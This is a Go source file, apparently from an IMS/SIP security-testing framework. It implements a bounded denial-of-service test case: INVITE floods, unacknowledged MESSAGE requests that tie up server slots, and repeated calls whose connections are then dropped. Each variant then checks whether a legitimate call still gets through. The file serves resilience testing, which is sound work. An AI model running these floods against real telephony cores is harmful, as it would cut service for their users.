package attack

import (
	"context"
	"errors"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// inviteFlood: a registered client calls without end.
func inviteFlood() Attack {
	return Attack{
		ID: "ci.invite.flood", Number: "CI-19", Title: "calls and messages of one user without end",
		Text:     "each binds the core, its records and whoever is called; one subscription would be enough to keep everybody busy",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption}, Module: ServicesControl,
		Source: "CVE-2020-28327; CVE-2021-41145", Access: both(), Small: true,
		Bounds: Bounds{Packets: 1500, Bytes: 1_500_000, Conns: 25, Time: 4 * time.Second},
		Variants: []Variant{
			{Name: "calls", Position: Subscriber, Run: floodInvites, Controls: []secure.ControlID{secure.CIAvailabilityBudgetUser},
				Ours: "what tells that the core has walked for a call is imsafe's own answer"},
			{Name: "held", Position: Subscriber, Run: holdPlaces,
				Controls: []secure.ControlID{secure.CIAvailabilityBudgetUser, secure.CIAvailabilityOverload}},
			{Name: "closed", Position: Subscriber, Access: []Access{TLS}, Run: callAndClose,
				Controls: []secure.ControlID{secure.CIAvailabilityBudgetUser, secure.CIAvailabilityEarlyDialog, secure.CIAvailabilityOverload}},
		},
	}
}

// floodInvites calls nobody: each call is a look into the HSS, and leaves a record.
func floodInvites(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	const times = 200
	worked := 0
	for i := range times {
		answer, err := mallory.Ask(ctx, mallory.Text(Request{Method: "INVITE", URI: "sip:nobody@" + f.Domain, Lines: []string{"Contact: " + mallory.Contact()}}))
		if err != nil {
			return err
		}
		o.Arrived("%d calls, the last answered %d", i+1, answer.Status())
		if answer.Status() == 404 {
			worked++
		}
	}
	o.Wire(worked > times/2, "of %d calls of a moment the core has walked %d", times, worked)
	return f.stillReaches(ctx, o)
}

// holdPlaces writes to himself, and never says that it has arrived: each message waits in the core for two minutes, until there is room for
// nobody else. The call and the message of others come behind.
func holdPlaces(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	const times = 2 * SmallPlaces
	for i := range times {
		if err := mallory.Write(mallory.Message(mallory.IMPU, "held")); err != nil {
			return err
		}
		if i%20 == 19 { // a datagram that is lost holds nothing
			if err := mallory.settles(ctx); err != nil {
				return err
			}
		}
	}
	o.Arrived("%d messages, %d of them refused at once", times, mallory.refused(ctx))
	if err := f.Alice.Reaches(ctx, f.Bob, "beside "+f.token()); err != nil {
		o.Users = 2
		o.Peer(true, "alice does not reach bob beside %d messages that wait for an answer: %v", times, err)
		return nil
	}
	o.Peer(false, "alice reaches bob beside the messages of one user that wait")
	return nil
}

// callAndClose calls carol, who lets it ring, and closes the connection behind the calls, again and again: nobody is there to be told how they end.
func callAndClose(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	carol.answers.Store(false)
	const conns, times = 20, 25
	called, refused := 0, 0
	for i := range conns {
		mallory, err := f.Mallory(ctx)
		if err != nil && i > 0 {
			break // there is no room for him either
		}
		if err != nil {
			return err
		}
		for range times {
			if err := mallory.Write(mallory.callsKeyed(carol.IMPU, f.token())); err != nil {
				return err
			}
		}
		if err := mallory.settles(ctx); err != nil {
			return err
		}
		called, refused = called+times, refused+mallory.refused(ctx)
		mallory.Close()
	}
	o.Arrived("%d calls, %d of them refused before their connections were closed", called, refused)
	if err := f.Alice.Reaches(ctx, f.Bob, "beside "+f.token()); err != nil {
		o.Users = 2
		o.Peer(true, "alice does not reach bob beside %d calls that nobody waits for: %v", called, err)
		return nil
	}
	o.Peer(false, "alice reaches bob beside the calls of one user who is gone")
	return nil
}

// settles waits until the target has read what was written: it answers a request that is wrong in itself, or gives no answer in a moment.
func (h *Hand) settles(ctx context.Context) error {
	err := within(ctx, soon, func(ctx context.Context) error {
		_, err := h.Ask(ctx, h.Text(Request{Method: "OPTIONS", URI: "sip:" + h.f.Domain, ToTag: "none"}))
		return err
	})
	if errors.Is(err, ErrClosed) || ctx.Err() != nil {
		return err
	}
	return nil
}

// refused counts the final answers that have come so far, besides 2xx.
func (h *Hand) refused(ctx context.Context) (n int) {
	for {
		err := within(ctx, soon/10, func(ctx context.Context) error {
			_, err := h.Await(ctx, func(m *sip.Message) bool { return !m.IsRequest() && m.Status() >= 300 })
			return err
		})
		if err != nil {
			return n
		}
		n++
	}
}

// stillReaches has an honest message go through beside the attack.
func (f *Field) stillReaches(ctx context.Context, o *Outcome) error {
	if err := f.Alice.Reaches(ctx, f.Bob, "beside "+f.token()); err != nil {
		o.Peer(true, "alice does not reach bob: %v", err)
	}
	return nil
}
